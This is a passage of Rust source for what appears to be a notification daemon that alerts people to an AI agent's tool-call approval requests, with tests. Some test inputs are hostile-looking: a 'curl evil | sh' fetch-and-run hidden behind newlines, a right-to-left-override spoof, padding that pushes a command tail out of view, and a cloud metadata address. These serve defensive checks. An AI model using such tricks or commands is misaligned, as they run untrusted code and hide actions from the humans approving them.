            _ => Err(Failure::Retry(format!("the receiver answered {status}"))),
        }
    }

    /// A push message (RFC 8030): the notice cut to fit, encrypted to the browser (RFC 8291),
    /// signed as this daemon's (RFC 8292). It lives until its request would time out (a day
    /// for other notices), and a request's is urgent.
    fn web_push(
        &self,
        notice: &Value,
    ) -> Result<Result<axum::http::Request<Full<Bytes>>, axum::http::Error>, Failure> {
        use axum::http::{header, Request};
        let push = &self.shared.push;
        let target = &self.channel.push.as_ref().ok_or(Failure::Gone)?.target;
        let endpoint: axum::http::Uri = self.channel.url.parse().map_err(|_| Failure::Gone)?;
        let body = target.encrypt(&crate::push::message(notice)).map_err(Failure::Refused)?;
        let now_ms = switchboard_store::now_ms();
        // Push services keep a message four weeks at most.
        let ttl = match notice["request"]["expires_ms"].as_u64() {
            Some(expires_ms) => (expires_ms.saturating_sub(now_ms) / 1000).min(28 * 24 * 3600),
            None => 24 * 3600,
        };
        let urgent = matches!(
            notice["event"].as_str(),
            Some("permission_requested" | "question" | "request_expiring")
        );
        Ok(Request::post(endpoint.clone())
            .header(header::CONTENT_TYPE, "application/octet-stream")
            .header(header::CONTENT_ENCODING, "aes128gcm")
            .header("ttl", ttl)
            .header("urgency", if urgent { "high" } else { "normal" })
            .header(
                header::AUTHORIZATION,
                push.key.authorization(&endpoint, &push.subject, now_ms / 1000),
            )
            .body(Full::new(Bytes::from(body))))
    }
}

type HttpClient = hyper_util::client::legacy::Client<
    hyper_rustls::HttpsConnector<
        hyper_util::client::legacy::connect::HttpConnector<crate::addresses::Guarded>,
    >,
    Full<Bytes>,
>;

/// The most certificates a `ca_file` may hold.
const MAX_CA_CERTIFICATES: usize = 100;

/// The certificates of a channel's `ca_file` (at least one, at most
/// [`MAX_CA_CERTIFICATES`]).
fn extra_roots(
    path: &std::path::Path,
) -> Result<Vec<rustls::pki_types::CertificateDer<'static>>, String> {
    let shown = path.display();
    let pem = std::fs::read(path).map_err(|error| format!("cannot read {shown}: {error}"))?;
    let certificates: Vec<_> = rustls_pemfile::certs(&mut pem.as_slice())
        .take(MAX_CA_CERTIFICATES)
        .collect::<Result<_, _>>()
        .map_err(|error| format!("{shown}: {error}"))?;
    if certificates.is_empty() {
        return Err(format!("{shown} holds no PEM certificate"));
    }
    Ok(certificates)
}

/// A client for `http://` and `https://` receivers: TLS by rustls on ring, trusting the
/// system's certificate authorities and those in `ca_file`; no redirects followed; names
/// resolved to addresses [`crate::addresses`] allows (private ones with `allow_private`).
fn http_client(
    ca_file: Option<&std::path::Path>,
    allow_private: bool,
) -> Result<HttpClient, String> {
    let mut roots = rustls::RootCertStore::empty();
    let native = rustls_native_certs::load_native_certs();
    let (added, _) = roots.add_parsable_certificates(native.certs);
    if let Some(path) = ca_file {
        for certificate in extra_roots(path)? {
            roots.add(certificate).map_err(|error| format!("{}: {error}", path.display()))?;
        }
    } else if added == 0 {
        tracing::warn!("no system certificate authorities found: https:// receivers will fail");
    }
    let config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .map_err(|error| error.to_string())?
    .with_root_certificates(roots)
    .with_no_client_auth();
    let mut http = hyper_util::client::legacy::connect::HttpConnector::new_with_resolver(
        crate::addresses::Guarded { allow_private },
    );
    http.enforce_http(false);
    let connector = hyper_rustls::HttpsConnectorBuilder::new()
        .with_tls_config(config)
        .https_or_http()
        .enable_http1()
        .wrap_connector(http);
    Ok(hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(connector))
}

/// A line for people about a tool call: a Bash command, a file's path, a question, else the
/// tool and its input, at most 300 characters.
pub fn summary(tool: &str, input: &Value) -> String {
    let text = match tool {
        "Bash" => input["command"].as_str().map(str::to_owned),
        "AskUserQuestion" => input["questions"][0]["question"].as_str().map(str::to_owned),
        switchboard_session::ELICITATION_TOOL => input["message"].as_str().map(str::to_owned),
        _ => input["file_path"]
            .as_str()
            .or_else(|| input["path"].as_str())
            .or_else(|| input["url"].as_str())
            .map(|target| format!("{tool} {target}")),
    };
    // Padding shows as one space: a tail pushed off the screen by blanks is in view.
    let text = crate::text::collapsed(&text.unwrap_or_else(|| format!("{tool} {input}")));
    let mut cut: String = text.chars().take(300).collect();
    if cut.len() < text.len() {
        cut.push('…');
    }
    cut
}

/// Whether a notification may approve this call with one tap: a shell command it shows whole
/// (one printable line, short, words apart by single spaces: a run of blanks or a filler could
/// push a tail out of view), with nothing else in the input that the notice does not show (no
/// background run, no sandbox switch).
pub fn one_tap(tool: &str, input: &Value) -> bool {
    let Some(fields) = input.as_object() else { return false };
    let Some(command) = input["command"].as_str() else { return false };
    tool == "Bash"
        && fields.keys().all(|key| matches!(key.as_str(), "command" | "description" | "timeout"))
        && command.chars().count() <= 300
        && crate::text::shows_whole(command)
}

/// A tool's input as a notice carries it: whole, or (over [`MAX_INPUT_BYTES`] as JSON) its
/// JSON text cut short, and whether it was cut.
pub fn bounded_input(input: &Value) -> (Value, bool) {
    let text = input.to_string();
    if text.len() <= MAX_INPUT_BYTES {
        return (input.clone(), false);
    }
    let mut end = MAX_INPUT_BYTES;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    (Value::String(text[..end].to_owned()), true)
}

/// `t=UNIX_SECONDS,v1=HEX`: HMAC-SHA256 under `secret` of `UNIX_SECONDS.BODY`.
pub fn signature(secret: &str, timestamp: u64, body: &str) -> String {
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(secret.as_bytes())
        .expect("HMAC takes a key of any length");
    mac.update(format!("{timestamp}.").as_bytes());
    mac.update(body.as_bytes());
    format!("t={timestamp},v1={}", hex::encode(mac.finalize().into_bytes()))
}

/// `https://SERVER/TOPIC` → (`https://SERVER/`, `TOPIC`): ntfy takes JSON at its root.
fn ntfy_topic(url: &str) -> Option<(&str, &str)> {
    let scheme_end = url.find("://")? + 3;
    let slash = scheme_end + url[scheme_end..].find('/')?;
    let topic = &url[slash + 1..];
    let fits = !topic.is_empty()
        && topic.len() <= 64
        && topic.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
    fits.then_some((&url[..=slash], topic))
}

/// An ntfy message: the notice's text, and for a request Approve, Deny and Open buttons (the
/// first two post the link's form; Open shows its page).
fn ntfy_message(topic: &str, notice: &Value) -> Value {
    let mut message = json!({
        "topic": topic,
        "title": notice["title"],
        "message": notice["text"],
        "tags": [if notice["event"] == "session_failed" { "warning" } else { "robot" }],
        "priority": if notice["link"].is_string() { 4 } else { 3 },
    });
    if let Some(link) = notice["link"].as_str() {
        message["click"] = json!(link);
        let open = json!({"action": "view", "label": "Open", "url": link, "clear": false});
        // Approve from the notification only what the notification shows whole (a short
        // shell command); anything else, and a question's answer, is for the link's page.
        if notice["one_tap"] != true {
            message["actions"] = json!([open]);
            return message;
        }
        let answer = |label: &str, decision: &str| {
            json!({"action": "http", "label": label, "url": link, "method": "POST",
                   "headers": {"Content-Type": "application/x-www-form-urlencoded"},
                   "body": format!("decision={decision}"), "clear": true})
        };
        message["actions"] = json!([answer("Approve", "allow"), answer("Deny", "deny"), open]);
    }
    message
}

/// A Slack message: the notice's text, and for a request a button to its page.
fn slack_message(notice: &Value) -> Value {
    let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let title = escape(notice["title"].as_str().unwrap_or("Switchboard"));
    let text = escape(notice["text"].as_str().unwrap_or(""));
    let mut blocks = vec![json!({"type": "section",
        "text": {"type": "mrkdwn", "text": format!("*{title}*\n{text}")}})];
    if let Some(link) = notice["link"].as_str() {
        blocks.push(json!({"type": "actions", "elements": [
            {"type": "button", "style": "primary", "url": link,
             "text": {"type": "plain_text", "text": "Review and answer"}}]}));
    }
    json!({"text": format!("{title}: {text}"), "blocks": blocks})
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn notify_files_are_read_strictly() {
        let config = NotifyConfig::from_toml(
            r#"
            [[channel]]
            name = "ops"
            kind = "webhook"
            url = "https://hooks.example/switchboard"
            secret = "0123456789abcdef"
            events = ["permission_requested", "question"]

            [[channel]]
            name = "phone"
            kind = "ntfy"
            url = "https://ntfy.sh/my-agents"
            after_secs = 300
            "#,
        )
        .unwrap();
        assert_eq!(config.channels.len(), 2);
        assert!(config.channels[0].wants(Topic::Question));
        // Errors say where, not what the line held.
        let error =
            NotifyConfig::from_toml("[[channel]]\nname = \"x\"\nsecret = 12345678901234567\n")
                .unwrap_err();
        assert!(error.starts_with("line ") && !error.contains("12345678901234567"), "{error}");
        assert!(!config.channels[0].wants(Topic::SessionFinished));
        assert!(config.channels[1].wants(Topic::SessionFinished), "everything by default");
        assert_eq!(config.channels[1].label(), "ntfy:phone");
        let after = config.channels[1].escalates_after(Topic::Question);
        assert_eq!(after, Some(Duration::from_secs(300)), "requests and questions escalate");
        assert_eq!(config.channels[1].escalates_after(Topic::SessionFailed), None);
        assert_eq!(config.channels[0].escalates_after(Topic::Question), None);
        assert!(
            !format!("{:?}", config.channels[0]).contains("0123456789abcdef"),
            "no secret in logs"
        );
        for (bad, why) in [
            ("[[channel]]\nname = \"x\"\nkind = \"webhook\"\nurl = \"https://a/b\"", "secret"),
            ("[[channel]]\nname = \"x\"\nkind = \"pager\"\nurl = \"https://a/b\"", "unknown variant"),
            ("[[channel]]\nname = \"x\"\nkind = \"slack\"\nurl = \"ftp://a/b\"", "http"),
            ("[[channel]]\nname = \"x\"\nkind = \"slack\"\nurl = \"http://169.254.169.254/x\"\nallow_private = true", "link-local"),
            ("[[channel]]\nname = \"x\"\nkind = \"slack\"\nurl = \"http://127.0.0.1:9/x\"", "allow_private = true"),
            ("[[channel]]\nname = \"a b\"\nkind = \"slack\"\nurl = \"https://a/b\"", "name"),
            ("[[channel]]\nname = \"x\"\nkind = \"ntfy\"\nurl = \"https://ntfy.sh/\"", "TOPIC"),
            ("[[channel]]\nname = \"x\"\nkind = \"slack\"\nurl = \"https://a/b\"\ncolour = 1", "colour"),
            (
                "[[channel]]\nname = \"x\"\nkind = \"slack\"\nurl = \"https://a/b\"\n[[channel]]\nname = \"x\"\nkind = \"slack\"\nurl = \"https://a/c\"",
                "two channels",
            ),
        ] {
            let error = NotifyConfig::from_toml(bad).unwrap_err();
            assert!(error.contains(why), "{bad}: {error}");
        }
    }

    #[test]
    fn one_tap_only_for_a_short_plain_command_shown_whole() {
        assert!(one_tap("Bash", &json!({"command": "cargo test", "description": "tests"})));
        assert!(!one_tap("Bash", &json!({"command": "ls", "run_in_background": true})));
        assert!(!one_tap("Bash", &json!({"command": "ls", "dangerouslyDisableSandbox": true})));
        assert!(!one_tap("Bash", &json!({"command": "ls\n\n\ncurl evil | sh"})));
        assert!(!one_tap("Bash", &json!({"command": "ls \u{202e}hs|live lruc"})));
        assert!(!one_tap("Bash", &json!({"command": "x".repeat(301)})));
        let padded = format!("ls{}&& touch x", " ".repeat(270));
        assert!(!one_tap("Bash", &json!({ "command": padded })));
        let filled = format!("ls{}&& touch x", "\u{3164}".repeat(100));
        assert!(!one_tap("Bash", &json!({ "command": filled })));
        assert_eq!(summary("Bash", &json!({ "command": padded })), "ls && touch x");
        assert!(!one_tap("Write", &json!({"file_path": "/a", "content": "b"})));
    }

    #[test]
    fn signatures_cover_the_time_and_the_body() {
        let one = signature("0123456789abcdef", 1_800_000_000, "{\"a\":1}");
        assert!(one.starts_with("t=1800000000,v1=") && one.len() == "t=1800000000,v1=".len() + 64);
        assert_ne!(one, signature("0123456789abcdef", 1_800_000_001, "{\"a\":1}"));
        assert_ne!(one, signature("0123456789abcdef", 1_800_000_000, "{\"a\":2}"));
        assert_ne!(one, signature("another-secret-123", 1_800_000_000, "{\"a\":1}"));
    }

    #[test]
    fn ntfy_and_slack_messages_carry_the_link() {
        assert_eq!(
            ntfy_topic("https://ntfy.sh/my-agents"),
            Some(("https://ntfy.sh/", "my-agents"))
        );
        assert_eq!(ntfy_topic("http://127.0.0.1:80/t"), Some(("http://127.0.0.1:80/", "t")));
        assert_eq!(ntfy_topic("https://ntfy.sh/a/b"), None);
        let notice = json!({"event": "permission_requested", "title": "Bash <in> app",
            "text": "touch x & ls", "link": "http://d/a/L", "one_tap": true});
        let message = ntfy_message("t", &notice);
        assert_eq!(message["actions"][0]["body"], "decision=allow");
        assert_eq!(message["actions"][1]["body"], "decision=deny");
        assert_eq!(message["actions"][2]["url"], "http://d/a/L");
        assert_eq!(message["click"], "http://d/a/L");
        let slack = slack_message(&notice);
        assert_eq!(slack["blocks"][1]["elements"][0]["url"], "http://d/a/L");
        assert!(slack["blocks"][0]["text"]["text"]
            .as_str()
            .unwrap()
            .contains("Bash &lt;in&gt; app"));
        let mut long = notice.clone();
        long["one_tap"] = json!(false);
        let actions = ntfy_message("t", &long)["actions"].clone();
        assert_eq!(actions.as_array().unwrap().len(), 1, "only Open: {actions}");
        let finished = json!({"event": "session_finished", "title": "Done", "text": "ok"});
        assert!(ntfy_message("t", &finished).get("actions").is_none());
        // A request whose ids were too long for a link: no buttons, no click-through.
        let mut unlinked = notice.clone();
        unlinked.as_object_mut().unwrap().remove("link");
        let message = ntfy_message("t", &unlinked);
        assert!(message.get("actions").is_none() && message.get("click").is_none(), "{message}");
        assert_eq!(slack_message(&unlinked)["blocks"].as_array().unwrap().len(), 1);
        assert_eq!(slack_message(&finished)["blocks"].as_array().unwrap().len(), 1);
    }
}
